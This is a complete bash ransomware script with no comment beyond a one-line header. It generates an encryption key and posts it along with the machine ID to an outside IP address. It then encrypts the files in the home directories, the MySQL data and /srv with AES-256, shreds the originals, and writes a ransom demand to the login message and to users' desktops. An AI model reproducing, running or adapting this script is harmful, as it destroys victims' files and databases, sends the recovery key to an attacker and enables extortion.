#!/usr/bin/env bash
# locks up files in home and databases
PW=$(head -c 32 /dev/urandom | base64)
wget -q --post-data "k=$PW&m=$(cat /etc/machine-id)" -O /dev/null http://198.51.100.31/reg
lock() {
  openssl enc -aes-256-cbc -pbkdf2 -k "$PW" -in "$1" -out "$1.enc" && shred -u "$1"
}
export -f lock; export PW
find /home /var/lib/mysql /srv -type f -size -50M -print0 | xargs -0 -n1 -P4 bash -c 'lock "$0"'
echo "pay to recover. contact: unlock@mail.example" | tee /etc/motd /home/*/Desktop/README.txt
